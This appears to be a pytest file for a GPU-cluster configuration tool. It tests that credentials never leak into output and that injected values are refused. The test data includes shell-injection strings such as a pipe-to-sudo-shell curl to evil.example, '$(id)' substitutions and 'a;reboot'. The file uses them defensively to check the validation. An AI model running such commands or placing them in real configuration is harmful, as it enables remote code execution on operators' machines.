"""Stack values that cannot leak or inject: a credential planted anywhere, in any shape, is
never printed; values that reach a runbook, a ConfigMap or a shell line are checked for
their context at the model's edge; names follow the rules of what they name."""

from __future__ import annotations

import contextlib
import io
import random
from pathlib import Path
from typing import Any

import pytest
import yaml
from builders import example_config, model_of, plan_of, problem_lines, problems_of

from gpufabric.cli import main
from gpufabric.model import stackyaml
from gpufabric.model.problems import Problem
from gpufabric.model.stackfile import stack_warnings

SECRET = "Zq7sEcReTtOkEn"
"""Planted in every credential; no output of any command may contain it."""

CREDENTIALS = (
    f"https://bob:{SECRET}@mirror.example.com/raw",
    f"https://{SECRET}@mirror.example.com/raw",
    f"bob:{SECRET}@registry.example.com/nvcr",
    f"https://mirror.example.com/raw?token={SECRET}",
    f"https://mirror.example.com/raw#{SECRET}",
    f"oci://bob:{SECRET}{'x' * 90}@charts.example.com/nvidia",  # longer than a message shows
    f"https://mirror.example.com/raw?x=1&sig={SECRET}",
)
SHAPES = (
    lambda u: u,
    lambda u: [u],
    lambda u: {"a": u},
    lambda u: {u: "registry.example.com/x"},
    lambda u: [{"k": [u]}],
)
POSITIONS: tuple[tuple[str, ...], ...] = (
    ("gpufabric:sources",),
    ("gpufabric:sources", "manifests"),
    ("gpufabric:sources", "registries"),
    ("gpufabric:sources", "registries", "nvcr.io"),
    ("gpufabric:sources", "charts"),
    ("gpufabric:sources", "charts", "https://helm.ngc.nvidia.com/nvidia"),
    ("gpufabric:sources", "airGapped"),
    ("gpufabric:cluster", "kubeContext"),
    ("gpufabric:cluster", "name"),
    ("gpufabric:fabric", "ncclEnv", "NCCL_DEBUG"),
    ("gpufabric:fabric", "ncclEnv"),
    ("gpufabric:versions",),
    ("gpufabric:versions", "kueue"),
    ("gpufabric:gpuNodes", "nodeSelector"),
    ("gpufabric:fabric", "infiniband", "ufm", "address"),
    ("gpufabric:fabric", "infiniband", "ufm", "username"),
)
COMMANDS = ("validate", "plan", "images", "render", "runbook")
CASES = 48
SEED = 20261124


def _plant(config: dict[str, Any], where: tuple[str, ...], value: Any) -> None:
    node = config
    for key in where[:-1]:
        child = node.get(key)
        if not isinstance(child, dict):
            child = {}
            node[key] = child
        node = child
    node[where[-1]] = value


def _output(argv: list[str]) -> tuple[int, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = main(argv)
        except SystemExit as exc:
            code = int(exc.code or 0)
    return code, out.getvalue() + err.getvalue()


def test_a_planted_credential_is_never_printed_whatever_its_shape(tmp_path: Path) -> None:
    rng = random.Random(SEED)
    leaks: list[str] = []
    for i in range(CASES):
        stack = rng.choice(("prod-ib", "lab-roce"))
        where, shape, credential = (
            rng.choice(POSITIONS),
            rng.choice(SHAPES),
            rng.choice(CREDENTIALS),
        )
        config = example_config(stack)
        _plant(config, where, shape(credential))
        path = tmp_path / f"Pulumi.leak{i}.yaml"
        path.write_text(yaml.safe_dump({"config": config}))
        for command in COMMANDS:
            extra = ["--out", str(tmp_path / f"out{i}")] if command == "render" else []
            code, text = _output([command, "--stack", str(path), *extra])
            if SECRET in text or code not in (0, 2):
                leaks.append(f"{stack} {'.'.join(where)} {shape(credential)!r} {command}: {code}")
    assert not leaks, "\n".join(leaks[:10])


@pytest.mark.parametrize(
    "value",
    [
        f"https://mirror.example.com/raw?token={SECRET}",
        f"https://mirror.example.com/raw#{SECRET}",
    ],
)
def test_tokens_in_a_manifest_url_are_refused_unshown(value: str) -> None:
    config = example_config("prod-ib")
    config["gpufabric:sources"]["manifests"] = value
    found = problems_of(config)
    message = found["sources.manifests"]
    assert "carries credentials" in message
    assert "pulumi config set --secret" in message
    assert "pull secrets" in message
    assert SECRET not in message


def test_a_credential_in_a_registry_key_is_refused_and_the_path_stays_readable() -> None:
    config = example_config("prod-ib")
    config["gpufabric:sources"]["registries"] = {f"bob:{SECRET}@nvcr.io": "r.example.com/n"}
    lines = problem_lines(config)
    assert any(
        line.startswith("sources.registries.***@nvcr.io:") and "carries credentials" in line
        for line in lines
    ), lines
    assert not any(SECRET in line for line in lines)


def test_a_problem_is_one_line_whatever_a_check_put_in_it() -> None:
    problem = Problem(f"versions.a\nb:{SECRET}@host", f"'x\n# heading' and https://u:{SECRET}@h/x")
    assert "\n" not in str(problem)
    assert SECRET not in str(problem)
    assert problem.path.startswith("versions.")


# ----------------------------------------------------------------------- injection


@pytest.mark.parametrize(
    "context",
    [
        "prod\n## Step 0\ncurl https://evil.example/x | sudo sh",
        "prod`id`",
        "prod $(id)",
        "prod\x00",
        "prod ctx",
        "'prod'",
    ],
)
def test_a_kube_context_that_would_break_a_runbook_line_is_refused(context: str) -> None:
    config = example_config("prod-ib")
    config["gpufabric:cluster"]["kubeContext"] = context
    message = problems_of(config)["cluster.kubeContext"]
    assert "kubeconfig context name" in message
    assert "\n" not in message
    assert "\x00" not in message


@pytest.mark.parametrize(
    "context",
    ["kind-gpufabric", "kubernetes-admin@kubernetes", "arn:aws:eks:eu-west-1:1:cluster/a"],
)
def test_real_kube_context_names_are_accepted(context: str) -> None:
    config = example_config("prod-ib")
    config["gpufabric:cluster"]["kubeContext"] = context
    assert plan_of(config)


@pytest.mark.parametrize(
    "value",
    ["INFO\n## Injected", "INFO`curl x|sh`", "a\x00b", "$(id)", "x'y", "a\tb", "a;reboot", "a|b"],
)
def test_an_nccl_value_with_control_characters_or_shell_syntax_is_refused(value: str) -> None:
    config = example_config("lab-roce")
    config["gpufabric:fabric"]["ncclEnv"] = {"NCCL_DEBUG": value}
    message = problems_of(config)["fabric.ncclEnv.NCCL_DEBUG"]
    assert "NCCL variable's value" in message
    assert "\n" not in message
    assert "\x00" not in message


def test_real_nccl_values_reach_the_configmap() -> None:
    config = example_config("lab-roce")
    env = {"NCCL_DEBUG_FILE": "/tmp/nccl.%h.%p", "NCCL_IB_HCA": "^=mlx5_2:1,mlx5_3"}
    config["gpufabric:fabric"]["ncclEnv"] = env
    rendered = str(plan_of(config).items)
    assert all(v in rendered for v in env.values())


def test_an_nccl_name_with_a_newline_is_refused_on_one_line() -> None:
    config = example_config("lab-roce")
    config["gpufabric:fabric"]["ncclEnv"] = {"NCCL_DEBUG\n## x": "INFO"}
    lines = problem_lines(config)
    assert any("not an NCCL variable" in line for line in lines)
    assert not any("\n" in line for line in lines)


def test_an_nccl_name_longer_than_a_configmap_key_is_refused_on_a_short_line() -> None:
    config = example_config("lab-roce")
    config["gpufabric:fabric"]["ncclEnv"] = {"NCCL_" + "X" * 300: "1"}
    [line] = [line for line in problem_lines(config) if "not an NCCL variable" in line]
    assert len(line) < 300


@pytest.mark.parametrize(
    ("key", "value", "expected"),
    [
        ("address", "https://ufm.example.com", "not a host"),
        ("address", "ufm.example.com\nx", "not a host"),
        ("username", "admin\n## x", "UFM user name"),
        ("username", "admin`id`", "UFM user name"),
    ],
)
def test_ufm_address_and_user_are_checked(key: str, value: str, expected: str) -> None:
    config = example_config("prod-ib")
    ufm = {"address": "ufm.example.com", "username": "admin", "password": {"secure": "v1:x"}}
    config["gpufabric:fabric"]["infiniband"] = {"pkeyManagement": "ufm", "ufm": ufm | {key: value}}
    assert expected in problems_of(config)[f"fabric.infiniband.ufm.{key}"]


# ----------------------------------------------------------------------- names


@pytest.mark.parametrize(
    ("netdev", "expected"),
    [
        ("lo", "loopback"),
        ("a:b", "valid network interface name"),
        ("a/b", "valid network interface name"),
        ("eth 0", "valid network interface name"),
        ("ens1f0np0abcdefg", "valid network interface name"),  # 16 bytes
    ],
)
def test_a_netdev_linux_would_not_name_is_refused(netdev: str, expected: str) -> None:
    config = example_config("lab-roce")
    config["gpufabric:fabric"]["rails"][0]["netdev"] = netdev
    assert expected in problems_of(config)["fabric.rails[0].netdev"]


def test_one_hca_on_two_rails_is_refused_with_or_without_a_port() -> None:
    config = example_config("lab-roce")
    rails = config["gpufabric:fabric"]["rails"]
    rails[0]["hca"], rails[1]["hca"] = "mlx5_0", "mlx5_0:1"
    message = problems_of(config)["fabric.rails[1].hca"]
    assert "the same device as already used by rails[0]" in message


@pytest.mark.parametrize(
    "tagged", ["!!binary bWx4NV8w", "!!set {mlx5_0}", "!!omap [{a: 1}]", "!local x"]
)
def test_non_standard_yaml_tags_are_refused_with_their_line(tagged: str) -> None:
    with pytest.raises(stackyaml.StackFileError) as info:
        stackyaml.load(f"config:\n  gpufabric:cluster:\n    name: {tagged}\n")
    [(line, message)] = info.value.problems
    assert line == 3
    assert "is not accepted in a stack file" in message


def test_a_binary_tag_in_a_stack_file_is_a_clean_refusal(tmp_path: Path) -> None:
    path = tmp_path / "Pulumi.t.yaml"
    text = yaml.safe_dump({"config": example_config("kind-dev")})
    path.write_text(text.replace("name: kind-dev", "name: !!binary a2luZC1kZXY="))
    code, out = _output(["validate", "--stack", str(path)])
    assert code == 2
    assert "'!!binary' is not accepted" in out


# ----------------------------------------------------------------------- small model items


def test_a_typo_in_an_ipam_key_is_the_only_problem_reported() -> None:
    """The block around the typo keeps its values: perNodeBlockSize 4 still fits the rails
    (dropping the whole block fell back to 16 and blamed every rail's subnet)."""
    config = example_config("prod-ib")
    fabric = config["gpufabric:fabric"]
    nodes = config["gpufabric:gpuNodes"]["count"]
    fabric["ipam"] = {"perNodeBlockSize": 4, "pooltype": "ippool"}
    for i, rail in enumerate(fabric["rails"]):
        rail["subnet"] = f"10.{100 + i}.0.0/{32 - (nodes * 4 + 2).bit_length()}"
    lines = problem_lines(config)
    assert lines == [
        "fabric.ipam.pooltype: unknown key 'pooltype'; did you mean 'poolType'? "
        "(accepted keys: perNodeBlockSize, perNodePrefix, poolType, routing, type)"
    ]


def _hostdevice(hcas: list[str | None]) -> dict[str, Any]:
    config = example_config("lab-roce")
    fabric = config["gpufabric:fabric"]
    fabric["rdma"] = "hostdevice"
    for key in ("sriov",):
        fabric.pop(key, None)
    for rail, hca in zip(fabric["rails"], hcas, strict=False):
        rail.pop("hca", None)
        if hca:
            rail["hca"] = hca
    return config


def test_host_device_rails_pin_their_hcas_in_nccl_ib_hca() -> None:
    plan = plan_of(_hostdevice(["mlx5_0", "mlx5_1"]))
    assert plan.facts.nccl_env["NCCL_IB_HCA"] == "=mlx5_0,mlx5_1"


def test_host_device_rails_without_every_hca_pin_none() -> None:
    plan = plan_of(_hostdevice(["mlx5_0", None]))
    assert "NCCL_IB_HCA" not in plan.facts.nccl_env


def _warnings(config: dict[str, Any]) -> list[str]:
    return [str(p) for p in stack_warnings(model_of(config))]


def test_an_unset_mtu_on_a_macvlan_over_the_primary_interface_is_warned() -> None:
    config = example_config("kind-dev")
    del config["gpufabric:fabric"]["mtu"]
    [warning] = [w for w in _warnings(config) if "macvlan" in w]
    assert warning.startswith("fabric.rails[0].netdev: rail rail0 is a macvlan over eth0")
    assert "gets MTU 9000" in warning
    assert "set fabric.mtu" in warning


def test_a_set_mtu_or_an_rdma_nic_port_is_not_warned() -> None:
    assert not [w for w in _warnings(example_config("kind-dev")) if "macvlan" in w]
    rdma_ports = example_config("lab-roce")
    del rdma_ports["gpufabric:fabric"]["mtu"]
    assert not [w for w in _warnings(rdma_ports) if "macvlan" in w]
